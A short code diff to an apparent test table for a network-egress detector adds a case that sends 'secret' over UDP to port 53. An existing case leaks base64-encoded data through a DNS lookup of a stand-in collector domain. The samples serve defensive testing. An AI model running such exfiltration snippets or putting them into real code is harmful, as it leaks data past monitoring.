@@ -71,6 +71,10 @@ TOLD = {
         "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 99))",
         "tried to reach 8.8.8.8:99",
     ),
+    "sends what is no question to a name server's port": (
+        "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('8.8.8.8', 53))",
+        "tried to reach 8.8.8.8:53",
+    ),
     "asks for a name that holds what it knows": (
         "    socket.getaddrinfo('c2VjcmV0.collect.example.net', 80)",
         "tried to reach c2vjcmv0.collect.example.net",
